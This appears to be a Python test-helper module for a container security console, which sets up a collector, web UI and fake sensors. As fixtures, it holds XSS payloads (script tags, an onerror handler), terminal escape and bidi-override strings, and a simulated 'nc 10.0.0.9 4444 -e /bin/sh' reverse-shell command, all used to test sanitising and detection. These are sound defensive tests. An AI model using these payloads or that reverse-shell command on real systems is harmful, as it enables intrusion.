"""Shared helpers of the console tests (integration and browser tiers): a live collector with its
web console, and a sensor link in-process whose responder answers container actions (the seam:
everything from the console to the sensor link is real; only the container runtime is fake)."""

from __future__ import annotations

import time
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator

import msgpack

from bench.workloads import IMAGE, IMAGE_ID, deviation
from collector.auth import AuthConfig, TokenStore
from collector.server import CollectorServer, create_server
from collector.store import SqlStore
from collector.webserver import WebServer, start_web
from sensor.agent.link import CollectorLink, LinkCallbacks, LinkConfig
from sensor.events import Event, Finding
from sensor.response import ActionResult
from sensor.spool import Spool
from tests.waiting import wait_for

# What an attacker controls in a container, through the whole path: a terminal escape that would
# recolour (or erase) a line, markup that would run as script, a bidi override that reverses text.
HOSTILE = "\x1b[31mred\x1b[0m<script>window.pwned=1</script><img src=x onerror=alert(1)>\u202egnp.exe"
ROOT = "/usr/sbin/nginx"
# A sensor whose id and node an attacker on that node chose (its token is named so by the operator)
EVIL_SENSOR = "evil\x1b]8;;http://x\x07<script>window.pwned=2</script>"
EVIL_NODE = "node\x1b[2J<b onmouseover=alert(3)>bold</b>"


class FakeResponder:
    """The sensor's container actions, answered without a runtime; records what it was asked."""

    def __init__(self) -> None:
        self.done: list[str] = []

    def act(self, action: str, container_id: str, cgroup_path: str = "", pid: int = 0) -> ActionResult:
        self.done.append(f"{action} {container_id}")
        return ActionResult(action, container_id, True, "", 3.2, "fake")


def attack(t0_ns: int) -> list[Finding]:
    """A reverse shell in container web-0 under nginx: four findings of one process tree."""
    base = deviation("new_binary", t0_ns, i=0).pop()
    ev = base.replace(ancestry=("/bin/sh", ROOT), pexe="/bin/sh")
    shell = ev.replace(exe="/bin/sh", args=("sh", "-c", HOSTILE), ancestry=(ROOT,), pid=4000)
    nc = ev.replace(exe="/usr/bin/nc", args=("nc", "10.0.0.9", "4444", "-e", "/bin/sh"), pid=4001)
    return [
        Finding("rule", "Shell Spawned By Web Server", "WARNING", f"shell by nginx: {HOSTILE}", shell,
                time_ns=t0_ns, source="rule", tags=("T1059",)),
        Finding("new_process", "New Process", "NOTICE", "new process /usr/bin/nc", nc, time_ns=t0_ns + 1000,
                explanation={"expected": ["/usr/sbin/nginx"], "seen": "/usr/bin/nc", "learned_s": 600}),
        Finding("rule", "Reverse Shell", "CRITICAL", "nc -e /bin/sh", nc.replace(kind="connect", daddr="10.0.0.9",
                dport=4444), time_ns=t0_ns + 2000, source="rule", tags=("T1059.004", "mitre_execution"),
                action="pause-container"),
        Finding("new_outbound", "New Outbound", "NOTICE", "new outbound 10.0.0.9:4444",
                nc.replace(kind="connect", daddr="10.0.0.9", dport=4444), time_ns=t0_ns + 3000,
                explanation={"expected": ["10.0.0.1:53"], "seen": "10.0.0.9:4444"}),
    ]


def baseline_snapshot(t0_ns: int, extra: tuple[str, ...] = ()) -> bytes:
    """A sensor's model snapshot of the attacked image (msgpack, as the daemon sends it): nginx with
    its parent, a listen port, an outbound endpoint, a syscall, a rule learned while learning, an
    executable whose name is :data:`HOSTILE` (seen in a container named so), and one more process
    per ``extra``."""
    from models import store as model_store
    from models.baseline import ImageBaseline, ModelConfig
    from models.profile import item_keys

    base = deviation("new_binary", t0_ns, i=0).pop()
    b = ImageBaseline(IMAGE_ID, IMAGE, ModelConfig())
    events = [base.replace(exe=ROOT, args=(ROOT,), pexe="/usr/bin/containerd-shim"),
              base.replace(exe="/tmp/" + HOSTILE, args=("x", "y"), pexe=ROOT, container_name=HOSTILE),
              Event("listen", t0_ns, exe=ROOT, proto="tcp", family="ipv4", sport=80, container_id=base.container_id),
              Event("connect", t0_ns, exe=ROOT, proto="tcp", family="ipv4", daddr="10.0.0.1", dport=53,
                    container_id=base.container_id),
              Event("syscall", t0_ns, exe=ROOT, syscall_nr=101, container_id=base.container_id),
              *(base.replace(exe=e, args=(e,), pexe=ROOT) for e in extra)]
    for i, ev in enumerate(events):
        ev = ev.replace(time_ns=t0_ns + i)
        for dim, key in item_keys(ev):
            b.profile.learn(dim, key, ev, node="node-1")
    b.profile.containers.add(base.container_id)
    b.life.observed_ns = 600 * 10**9
    b.profile.learn("rule", ("Shell Spawned By Web Server", "/bin/sh", ROOT), base.replace(
        exe="/bin/sh", pexe=ROOT, container_name=HOSTILE), node="node-1")
    return msgpack.packb(model_store.to_dict(b), use_bin_type=True)


class FakeSensorState:
    """What the in-process sensor reports: its counters (events grow by 100 per heartbeat; no
    events_per_s, so the console computes the rate), its model snapshots (tests swap them), and
    the policies the collector pushed to it."""

    def __init__(self, snapshot: bytes) -> None:
        self.events = 0
        self.snapshots: list[tuple[str, bytes]] = [(IMAGE_ID, snapshot)]
        self.policies: list[tuple[str, dict[str, Any]]] = []

    def counters(self) -> dict[str, int]:
        self.events += 100
        return {"events": self.events, "kernel_drops": 0, "queue_drops": 0, "spool_bytes": 2048,
                "spool_unacked": 0}

    def on_policy(self, image: str, payload: bytes) -> None:
        import json

        self.policies.append((image, json.loads(payload)))


@dataclass
class Stack:
    url: str
    tokens: dict[str, str]
    store: SqlStore
    server: CollectorServer
    web: WebServer
    responder: FakeResponder
    container_id: str
    sensor: FakeSensorState


@contextmanager
def console_stack(tmp_path: Path) -> Iterator[Stack]:
    """A collector on port 0 with its console on port 0, a token per role, and a sensor that
    reported :func:`attack` (one incident) and answers container actions."""
    tokens = TokenStore(tmp_path / "tokens")
    toks = {r: tokens.add(r, r) for r in ("viewer", "responder", "admin")}
    toks["sensor"] = tokens.add("sensor-1", "sensor")  # a sensor token speaks for its own id only
    evil_token = tokens.add(EVIL_SENSOR, "sensor")
    store = SqlStore.open(str(tmp_path / "c.db"))
    auth = AuthConfig(tokens)
    server, port = create_server("127.0.0.1:0", store, auth)
    web = start_web("127.0.0.1:0", server.hub, server.incidents, auth)
    now = time.time_ns()
    findings = attack(now)
    cid = findings[0].event.container_id
    responder = FakeResponder()
    state = FakeSensorState(baseline_snapshot(now - 3600 * 10**9))
    link = CollectorLink(LinkConfig(f"127.0.0.1:{port}", sensor_id="sensor-1", node="node-1", token=toks["sensor"],
                                    heartbeat_s=0.1, snapshot_s=0.1),
                         Spool(tmp_path / "spool"), responder,  # type: ignore[arg-type]
                         LinkCallbacks(counters=state.counters, containers=lambda: [cid],
                                       container_images=lambda: {cid: IMAGE_ID},
                                       snapshots=lambda: list(state.snapshots), on_policy=state.on_policy)).start()
    # a second sensor, on a node an attacker controls: its names are hostile, it drops events
    evil = CollectorLink(LinkConfig(f"127.0.0.1:{port}", sensor_id=EVIL_SENSOR, node=EVIL_NODE, token=evil_token,
                                    heartbeat_s=0.5),
                         Spool(tmp_path / "spool-evil"), FakeResponder(),  # type: ignore[arg-type]
                         LinkCallbacks(counters=lambda: {"events": 10, "events_per_s": 7, "kernel_drops": 3})).start()
    try:
        link.submit(findings)
        wait_for(lambda: [i.count for i in server.incidents.list_page().rows] == [4])
        wait_for(lambda: len(server.hub.sessions) == 2)
        wait_for(lambda: bool(store.baseline_versions(IMAGE_ID)))
        yield Stack(f"http://127.0.0.1:{web.port}", toks, store, server, web, responder, cid, state)
    finally:
        evil.close()
        link.close()
        web.stop()
        server.stop(0)
        store.close()


def open_page(browser: Any, stack: Stack, role: str) -> tuple[Any, Any, list[str]]:
    """A new browser context logged in as ``role`` (on the incidents page), and the dialogs it saw."""
    ctx = browser.new_context(viewport={"width": 1400, "height": 900})
    page = ctx.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(f"{stack.url}/incidents")
    assert page.url.endswith("/login")  # not logged in: sent to log in
    page.fill("#token", stack.tokens[role])
    page.click("#login")
    page.wait_for_url("**/incidents")
    assert stack.tokens[role] not in page.url
    cookies = ctx.cookies()
    [session] = [c for c in cookies if c["name"] == "cgsentry_session"]
    assert session["httpOnly"] and session["sameSite"] == "Strict"
    return ctx, page, dialogs
